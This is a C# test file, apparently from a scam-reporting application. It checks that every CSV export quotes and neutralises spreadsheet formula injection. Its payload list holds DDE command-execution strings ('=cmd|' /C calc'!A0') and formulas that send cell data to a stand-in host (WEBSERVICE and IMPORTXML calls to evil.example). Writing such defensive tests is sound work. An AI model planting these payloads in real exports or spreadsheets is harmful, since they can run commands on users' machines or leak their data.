using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using ScamWatch.Domain.Reports;
using ScamWatch.Domain.Sharing;
using ScamWatch.Domain.Staff;
using ScamWatch.Tests.Api;
using ScamWatch.Tests.Support;

namespace ScamWatch.Tests.Attacks;

/// <summary>Words that a spreadsheet would calculate (OWASP, "CSV Injection"), through every table that is given out.</summary>
[Collection(nameof(AttackedApp))]
public sealed class FormulaTests(AttackedApp app)
{
    private static readonly string[] s_words =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\"=1+1", "\",=1+1", "\"\r\n=1+1", "';=1+1", ",=1+1", ";=1+1",
        "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\u200b=1+1", "\ufeff=1+1", "=1+1;=1+1", "x\n=1+1", "\u00a0=1+1", "−1+1", "\u0001=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ];

    public static TheoryData<int> Cases { get; } = new(Enumerable.Range(0, s_words.Length));

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory, MemberData(nameof(Cases))]
    public void No_cell_is_a_formula(int index)
    {
        var (rows, quoted) = Rows(CsvExport.Cell(s_words[index]) + ",\"x\"\r\n");

        Assert.True(quoted);
        var row = Assert.Single(rows);
        Assert.Equal(2, row.Count);
        AssertNoFormula(row[0]);
    }

    [Fact]
    public async Task No_table_that_is_given_out_holds_one()
    {
        using var api = await ApiClient.OpenAsync(app.House);
        foreach (var words in s_words.Select(w => new string([.. w.Where(c => c is not '\u0001')])))
        {
            var answer = await api.PostAsync("/reports", JsonSerializer.Serialize(new { channel = "email", subject = words, sender = words, body = words + $" https://evil{Some.Word()}.example.top/ マイナンバーカードの更新", note = words }));
            Assert.True(answer.Status is System.Net.HttpStatusCode.Created, answer.Text);
        }

        await using var db = app.House.App.Db();
        foreach (var report in await db.Reports.AsNoTracking().Where(r => r.Source == IntakeSource.Api && r.Verdict == null).OrderByDescending(r => r.ReceivedAt).Take(s_words.Length).ToListAsync(Ct))
        {
            Assert.True((await app.House.Get<DecideReport>().RunAsync(new(report.Id, Verdict.Scam, "=1+1", report.Version), Some.Analyst, Ct)).Succeeded);
        }

        foreach (var words in s_words)
        {
            await app.House.PublishAlertAsync(c => c with { Title = words, LureSubject = words, LureText = words, Advice = words });
        }

        var staff = await app.House.SignInAsync(Role.Supervisor);
        var tables = 0;
        foreach (var path in (string[])
            [
                "/reports/export/csv?state=all", "/alerts/warnings.csv", "/insights/reach", "/settings/reference/lines.csv", "/settings/reference/fees.csv",
                .. Enum.GetValues<Domain.Insights.FigureKind>().Select(k => $"/insights/{Domain.Codes.Of(k)}"),
            ])
        {
            using var answer = await staff.GetAsync(path, Ct);
            var text = Encoding.UTF8.GetString(await answer.Content.ReadAsByteArrayAsync(Ct)).TrimStart('\ufeff');
            if (answer.Content.Headers.ContentType?.MediaType != "text/csv")
            {
                continue;
            }

            tables++;
            var (rows, quoted) = Rows(text);
            Assert.True(quoted, path);
            Assert.True(rows.Count > 0, path);
            Assert.All(rows, r => Assert.Equal(rows[0].Count, r.Count));
            Assert.All(rows.SelectMany(r => r), AssertNoFormula);
        }

        Assert.True(tables >= 12, $"{tables}");
    }

    private static void AssertNoFormula(string cell)
    {
        var first = cell.TrimStart(' ', '\u3000', '\u00a0', '\u200b', '\ufeff', '\t', '\r', '\n', '\u0001');
        var bare = cell.Length == 0 || cell[0] == '\'' || first.Length == 0 || first[0] is not ('=' or '+' or '-' or '@' or '＝' or '＋' or '－' or '＠' or '−');
        // A plain number that is below zero is one.
        Assert.True(bare || double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), cell);
    }

    /// <summary>Cells by RFC 4180, and whether every one of them stood in quotes.</summary>
    private static (List<List<string>> Rows, bool Quoted) Rows(string text)
    {
        var rows = new List<List<string>> { new() };
        var quoted = true;
        for (var i = 0; i < text.Length;)
        {
            var cell = new StringBuilder();
            if (text[i] == '"')
            {
                for (i++; i < text.Length && !(text[i] == '"' && (i + 1 == text.Length || text[i + 1] != '"')); i++)
                {
                    cell.Append(text[i]);
                    i += text[i] == '"' ? 1 : 0;
                }

                i++;
            }
            else
            {
                quoted = false;
                for (; i < text.Length && text[i] is not (',' or '\r'); i++)
                {
                    cell.Append(text[i]);
                }
            }

            rows[^1].Add(cell.ToString());
            if (i < text.Length && text[i] == ',')
            {
                i++;
            }
            else
            {
                i += 2;
                rows.Add([]);
            }
        }

        rows.RemoveAll(r => r.Count == 0);
        return (rows, quoted);
    }
}
